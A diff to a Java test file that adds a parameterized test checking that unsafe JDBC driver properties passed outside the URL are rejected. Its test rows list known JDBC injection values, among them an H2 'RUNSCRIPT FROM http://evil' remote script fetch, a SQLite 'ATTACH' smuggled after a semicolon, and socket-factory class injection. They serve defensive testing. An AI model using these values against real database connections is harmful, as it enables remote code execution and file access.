@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.time.Duration;
+import java.util.Map;
 import org.apache.kafka.common.config.ConfigException;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -142,6 +143,34 @@ final class UrlAttacksTest {
                 .doesNotContain("evil");
     }
 
+    /** The same rules hold for properties that stand apart from the URL. */
+    @ParameterizedTest
+    @CsvSource({
+        "jdbc:postgresql://db/x, socketFactory, evil",
+        "jdbc:postgresql://db/x, sslfactory, evil",
+        "jdbc:postgresql://db/x, loggerFile, /evil",
+        "jdbc:postgresql://db/x, SSLMODE, evil",
+        "jdbc:postgresql://db/x?sslmode=require, sslmode, evil",
+        "jdbc:postgresql://db/x, pool.max_size, evil",
+        "jdbc:mysql://db/x, allowLoadLocalInfile, evil",
+        "jdbc:mariadb://db/x, socketFactory, evil",
+        "jdbc:mysql://db/x, sessionVariables, evil",
+        "jdbc:h2:tcp://db/x, INIT, evil",
+        "jdbc:h2:tcp://db/x, SCHEMA, PUBLIC RUNSCRIPT FROM 'http://evil'",
+        "jdbc:sqlite:/tmp/x.db, enable_load_extension, evil",
+        "jdbc:sqlite:/tmp/x.db, journal_mode, WAL;ATTACH 'evil'",
+        "jdbc:sqlserver://db, trustManagerClass, evil",
+        "jdbc:sqlserver://db, applicationName, {x;socketFactoryClass=evil}",
+        "jdbc:oracle:thin:@//db:1521/x, oracle.net.wallet_location, evil",
+    })
+    void propertyThatIsNotSafeIsRefusedByName(String url, String name, String value) {
+        assertThatThrownBy(() -> options(url, Map.of(name, value)))
+                .isInstanceOf(ConfigException.class)
+                .message()
+                .contains("connection." + name)
+                .doesNotContain("evil");
+    }
+
     @ParameterizedTest
     @CsvSource({
         "jdbc:postgresql://db:5432/shop?sslmode=require, PostgresDialect",
@@ -169,13 +198,18 @@ final class UrlAttacksTest {
                 .findFirst()
                 .orElseThrow();
 
-        assertThatThrownBy(() -> new ConnectionOptions(url, other, null, null, 1, Duration.ZERO))
+        assertThatThrownBy(
+                        () -> new ConnectionOptions(url, other, null, null, 1, Duration.ZERO, Duration.ZERO, Map.of()))
                 .isInstanceOf(ConfigException.class)
                 .hasMessageContaining("dialect.name")
                 .hasMessageContaining("leave it out");
     }
 
     private static ConnectionOptions options(String url) {
-        return new ConnectionOptions(url, null, null, null, 1, Duration.ZERO);
+        return options(url, Map.of());
+    }
+
+    private static ConnectionOptions options(String url, Map<String, String> driverProperties) {
+        return new ConnectionOptions(url, null, null, null, 1, Duration.ZERO, Duration.ZERO, driverProperties);
     }
 }
